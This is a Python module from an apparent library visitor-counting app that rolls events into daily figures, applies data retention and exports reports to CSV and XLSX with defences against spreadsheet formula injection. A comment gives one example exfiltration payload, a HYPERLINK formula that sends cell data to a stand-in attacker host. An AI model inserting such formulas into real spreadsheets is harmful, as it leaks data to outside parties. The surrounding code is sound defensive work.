"""Reports, store side: roll raw events up into daily tables, recount dirty days, apply retention, and read
period figures (`report`) for the pages, the JSON API, the exports and the CLI.

How a day gets (re)counted: every stored event has a growing row id. `rollup_pending` remembers the highest
row id it has seen (a watermark) and marks the day of every newer event dirty, so a late or replayed event
re-opens its day even if nobody called `mark_dirty`; schedule edits mark their date dirty. Dirty days before
today are recounted from their raw events, each in its own short transaction. The figures are pure functions of
the day's events (`server.rollup`), so order and duplicates do not matter.
"""

from __future__ import annotations

import csv
import datetime as dt
import logging
from pathlib import Path
from typing import IO, Any

from footfall.clock import day_bounds, format_ts, local_day
from footfall.i18n import load_catalog
from footfall.server.rollup import DayRollup, rollup_day, summarize
from footfall.server.store import Queries, Store, Tx
from footfall.site import SiteConfig

logger = logging.getLogger(__name__)

RAW_RETENTION_DAYS = 400  # [server] raw_retention_days
IDENTIFIED_RETENTION_DAYS = 180  # [server] identified_retention_days
PERIODS = ("daily", "weekly", "monthly", "annual")
# The days a report, the schedule or the API may name. Python's dates end at 9999-12-31, and a page also shows
# the periods before and after its own: a bounded range keeps every date parameter a 400, never an overflow.
FIRST_DAY = dt.date(2000, 1, 1)
LAST_DAY = dt.date(2199, 12, 31)
I18N_DIR = Path(__file__).resolve().parent / "i18n"


def mark_dirty(tx: Tx, day: dt.date | str) -> None:
    """Have `day` recounted by the next `rollup_pending` (ingest: an event for a past day; schedule edits)."""
    tx.mark_dirty(day if isinstance(day, str) else day.isoformat())


def schedule_between(q: Queries, start: dt.date, end: dt.date) -> list[dict[str, Any]]:
    return q.schedule_between(start, end)


def compute_day(site: SiteConfig, q: Queries, day: dt.date) -> DayRollup:
    """A day's figures from the raw events now stored (also used live for today); `q` is a store or a Tx."""
    text = day.isoformat()
    return rollup_day(
        site,
        day,
        q.day_crossing_rows(day),
        q.day_checkin_rows(text),
        q.schedule_between(day, day),
        q.identified_purged(text),
        day_corrections(site, q, day),
    )


def day_corrections(site: SiteConfig, q: Queries, day: dt.date) -> list[tuple[str, str, int]]:
    """Staff corrections made during a business day, (at, room, value): they keep their place in time."""
    start, end = (format_ts(t) for t in day_bounds(day, site.timezone, site.day_starts))
    return q.corrections(start, end)


def rollup_day_now(site: SiteConfig, store: Store, day: dt.date, now: dt.datetime) -> DayRollup:
    """Recount one day from its raw events and store it (one transaction)."""
    with store.transaction() as tx:
        r = compute_day(site, tx, day)
        tx.write_day(r, tx.identified_purged(day.isoformat()), now)
        tx.clear_dirty(day.isoformat())
    return r


def rollup_pending(site: SiteConfig, store: Store, now: dt.datetime) -> list[dt.date]:
    """Count every finished day that has new events or was marked dirty; then apply retention once a day.

    Cheap when there is nothing to do (two indexed queries): call it at start-up, at the day boundary and as
    often as you like in between. Returns the days recounted.
    """
    today = local_day(now, site.timezone, site.day_starts)
    raw_cutoff = today - dt.timedelta(days=int(site.server.raw_retention_days))
    with store.transaction() as tx:
        mark = int(tx.report_state("rollup_watermark") or 0)
        top = tx.last_event()
        if top > mark:
            tx.mark_days_of_events_after(mark)
            tx.set_report_state("rollup_watermark", str(top))
        pending = [dt.date.fromisoformat(d) for d in tx.dirty_days_before(today.isoformat())]
    done = []
    for day in pending:
        if day < raw_cutoff and store.has_rollup(day.isoformat()):
            # Its raw events are (being) purged: keep the counts made when they were all there.
            logger.info("not recounting %s: older than raw_retention_days, daily counts kept", day)
            with store.transaction() as tx:
                tx.clear_dirty(day.isoformat())
            continue
        rollup_day_now(site, store, day, now)
        done.append(day)
    if done:
        logger.info("rolled up %d day(s): %s .. %s", len(done), done[0], done[-1])
    if store.report_state("retention_day") != today.isoformat():
        apply_retention(site, store, now)
    return done


def apply_retention(site: SiteConfig, store: Store, now: dt.datetime) -> dict[str, int]:
    """Delete raw events older than `raw_retention_days` (their daily counts stay) and remove member codes older
    than `identified_retention_days` (set to NULL; the day's identified count is kept)."""
    today = local_day(now, site.timezone, site.day_starts)
    raw = (today - dt.timedelta(days=int(site.server.raw_retention_days))).isoformat()
    ident_days = int(site.server.identified_retention_days)
    ident = (today - dt.timedelta(days=ident_days)).isoformat()
    with store.transaction() as tx:
        members = tx.purge_members_before(ident)
        deleted = tx.purge_events_before(raw)
        tx.set_report_state("retention_day", today.isoformat())
    if members or deleted:
        logger.info("retention: removed %d member codes, deleted %d raw events", members, deleted)
    return {"members_removed": members, "events_deleted": deleted}


# --- reading ---------------------------------------------------------------------------------------


def load_days(site: SiteConfig, q: Queries, start: dt.date, end: dt.date, today: dt.date):
    """Stored rollups of [start, end]; today, if inside, is computed live from its raw events."""
    days = q.stored_days(start.isoformat(), end.isoformat())
    if start <= today <= end:
        days[today] = compute_day(site, q, today)
    return days


def period_bounds(kind: str, anchor: dt.date) -> tuple[dt.date, dt.date]:
    if kind == "daily":
        return anchor, anchor
    if kind == "weekly":
        monday = anchor - dt.timedelta(days=anchor.weekday())
        return monday, monday + dt.timedelta(days=6)
    if kind == "monthly":
        first = anchor.replace(day=1)
        following = (first + dt.timedelta(days=32)).replace(day=1)
        return first, following - dt.timedelta(days=1)
    if kind == "annual":
        return anchor.replace(month=1, day=1), anchor.replace(month=12, day=31)
    raise ValueError(f"period must be one of {', '.join(PERIODS)}")


def check_day(day: dt.date) -> dt.date:
    """`day` if it lies in FIRST_DAY..LAST_DAY, else ValueError naming the range."""
    if not FIRST_DAY <= day <= LAST_DAY:
        raise ValueError(f"must be from {FIRST_DAY.isoformat()} to {LAST_DAY.isoformat()}")
    return day


def parse_day(text: str) -> dt.date:
    """A 'YYYY-MM-DD' date within FIRST_DAY..LAST_DAY; ValueError otherwise."""
    if len(text) != 10 or not text.isascii():
        raise ValueError("must be YYYY-MM-DD")
    try:
        day = dt.date.fromisoformat(text)
    except ValueError:
        raise ValueError("must be YYYY-MM-DD") from None
    return check_day(day)


def parse_anchor(kind: str, text: str | None, today: dt.date) -> dt.date:
    """'2026-11-28' (daily, weekly), '2026-11' (monthly), '2026' (annual); None = the current one."""
    if not text:
        return today
    anchor = None
    try:
        if not text.isascii():
            pass
        elif kind == "monthly" and len(text) == 7:
            anchor = dt.date.fromisoformat(text + "-01")
        elif kind == "annual" and len(text) == 4 and text.isdigit():
            anchor = dt.date(int(text), 1, 1)
        elif len(text) == 10:
            anchor = dt.date.fromisoformat(text)
    except ValueError:
        pass
    if anchor is None:
        shape = {"monthly": "YYYY-MM", "annual": "YYYY"}.get(kind, "YYYY-MM-DD")
        raise ValueError(f"must be {shape}")
    return check_day(anchor)


def report(
    site: SiteConfig, store: Store, kind: str, anchor: dt.date, now: dt.datetime, refresh: bool = True
) -> dict[str, Any]:
    """The figures of the daily / weekly / monthly / annual period containing `anchor`."""
    if refresh:
        rollup_pending(site, store, now)
    today = local_day(now, site.timezone, site.day_starts)
    start, end = period_bounds(kind, anchor)
    days = load_days(site, store, start, end, today)
    out = summarize(site, kind, start, end, days, store.schedule_between(start, end), today)
    out["period"]["label"] = {
        "daily": start.isoformat(),
        "weekly": f"{start.isocalendar()[0]}-W{start.isocalendar()[1]:02d}",
        "monthly": start.strftime("%Y-%m"),
        "annual": str(start.year),
    }[kind]
    return out


# --- exports ---------------------------------------------------------------------------------------


def labels(lang: str) -> dict[str, str]:
    """The export's words: the web's own catalog, so a sheet and the page it came from say the same."""
    return load_catalog(I18N_DIR, lang)


HEADLINE_KEYS = (
    "visits", "days", "days_open", "average_daily_visits", "checkins", "people", "checkin_rate",
    "activities_held", "activity_participants", "classes_held", "class_attendance", "busiest_room", "busiest_hour",
)  # fmt: skip


def tables(rep: dict[str, Any], lang: str = "zh-CN") -> list[tuple[str, list[str], list[list[Any]]]]:
    """The report as tables (name, header, rows): the CSV sections and the XLSX sheets, in one place."""
    t = labels(lang)

    def room_label(room: dict[str, Any]) -> str:
        return (room.get("name_en") or room["name"]) if lang == "en" else room["name"]

    summary = [[t[f"reports.h.{k}"], rep["headline"][k]] for k in HEADLINE_KEYS]
    days = [[d["date"], d["visits"], d["checkins"], d["people"]] for d in rep["days"]]
    rooms = [
        [r["room"], room_label(r), r["capacity"], r["entries"], r["exits"], r["peak"], r["peak_day"],
         r["utilisation"], r["occupied_hours"]]
        for r in rep["rooms"]
    ]  # fmt: skip
    hours = [[h, n] for h, n in enumerate(rep["hours"])]
    c = rep["checkins"]
    purposes = [[t[f"purpose.{p}"], n, c["people_by_purpose"].get(p, 0)] for p, n in c["by_purpose"].items()]
    acts = [
        [a["date"], a["start"], a["end"], t[f"kind.{a['kind']}"], a["title"], a["room"], a["capacity"],
         a["checkins"], a["adults"], a["children"], a["people"], a["door_entries"]]
        for a in rep["activities"]
    ]  # fmt: skip
    col = [t[f"reports.col.{k}"] for k in ("date", "visits", "checkins", "people")]
    return [
        (t["reports.t.summary"], [t["reports.col.metric"], t["reports.col.value"]], summary),
        (t["reports.t.days"], col, days),
        (
            t["reports.t.rooms"],
            [t[f"reports.col.{k}"] for k in ("room", "name", "capacity", "entries", "exits", "peak", "peak_day",
                                               "utilisation", "occupied_hours")],
            rooms,
        ),
        (t["reports.t.hours"], [t["reports.col.hour"], t["reports.col.visits"]], hours),
        (t["reports.t.purposes"], [t[f"reports.col.{k}"] for k in ("purpose", "checkins", "people")], purposes),
        (
            t["reports.t.activities"],
            [t[f"reports.col.{k}"] for k in ("date", "start", "end", "kind", "title", "room", "capacity",
                                               "checkins", "adults", "children", "people", "door_entries")],
            acts,
        ),
    ]  # fmt: skip


# Text a spreadsheet would run as a formula (OWASP "CSV injection"): a schedule title typed by staff such as
# =HYPERLINK("http://evil.example/?x="&A1) must arrive as text. Only text is touched: numbers stay numbers.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV value: text that starts like a formula gets a leading apostrophe, which spreadsheets show as text."""
    if value is None:
        return ""
    return "'" + value if is_formula_like(value) else value


Table = tuple[str, list[str], list[list[Any]]]


def write_csv(rep: dict[str, Any], out: IO[str], lang: str = "zh-CN") -> None:
    """All tables in one CSV: a title row, the header, the rows, a blank row."""
    write_tables_csv(tables(rep, lang), out)


def write_xlsx(rep: dict[str, Any], out: IO[bytes] | str | Path, lang: str = "zh-CN") -> None:
    """One sheet per table; numbers stay numbers, and no text becomes a formula."""
    write_tables_xlsx(tables(rep, lang), out)


def write_tables_csv(named_tables: list[Table], out: IO[str]) -> None:
    """(name, header, rows) tables in one CSV (also the district's reports)."""
    writer = csv.writer(out)
    for name, header, rows in named_tables:
        writer.writerow([csv_cell(name)])
        writer.writerow([csv_cell(v) for v in header])
        writer.writerows([[csv_cell(v) for v in row] for row in rows])
        writer.writerow([])


def write_tables_xlsx(named_tables: list[Table], out: IO[bytes] | str | Path) -> None:
    """One sheet per (name, header, rows) table (also the district's reports)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

    book = Workbook()
    book.remove(book.active)
    for name, header, rows in named_tables:
        sheet = book.create_sheet(name[:31])
        for row in (header, *rows):
            cells = []
            for value in row:
                cell = Cell(sheet, value=value)
                if is_formula_like(value):
                    # openpyxl stores text starting with "=" as a formula: keep it a string, and mark it the way
                    # Excel marks text typed with a leading apostrophe (shown as typed, never evaluated).
                    cell.data_type = "s"
                    cell.quotePrefix = True
                cells.append(cell)
            sheet.append(cells)
    book.save(out)
